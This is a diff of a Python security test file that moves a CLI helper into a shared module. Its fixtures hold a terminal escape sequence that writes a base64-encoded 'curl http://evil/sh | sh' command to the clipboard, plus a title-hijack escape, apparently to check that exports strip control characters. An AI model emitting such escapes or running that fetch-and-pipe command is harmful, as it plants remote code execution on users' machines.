@@ -7,14 +7,12 @@ character but newline and tab in Markdown, CSV and HTML, and no such link live i
 from __future__ import annotations
 
 import json
-import os
 import re
-import subprocess
-import sys
 
 import pytest
 
 from tests.integration.engine_helpers import code
+from tests.security.test_exports import _cli
 
 CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo\x07"     # "curl http://evil/sh | sh"
 TITLE = "\x1b]0;pwned\x07"
@@ -26,16 +24,6 @@ CELL = (f"print({CLIPBOARD!r} + 'cell output')\n"
         f"FINAL({ANSWER!r})\n"
         f"raise err")
 CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
-
-
-def _cli(tmp_path, *args: str, namespace: bool = False) -> subprocess.CompletedProcess:
-    env = dict(os.environ, RLMSTUDIO_DESKTOP_HOME=str(tmp_path / "home"), OPENAI_API_KEY="sk-cli",
-               PYTHON_KEYRING_BACKEND="keyring.backends.null.Keyring")
-    env.pop("RLMSTUDIO_DESKTOP_REPL_NO_NAMESPACE", None)
-    if not namespace:
-        env["RLMSTUDIO_DESKTOP_REPL_NO_NAMESPACE"] = "1"
-    return subprocess.run([sys.executable, "-m", "app.main", *args], env=env, capture_output=True,
-                          timeout=180)
 
 
 @pytest.mark.parametrize("namespace", [True, False], ids=["namespace", "fallback"])
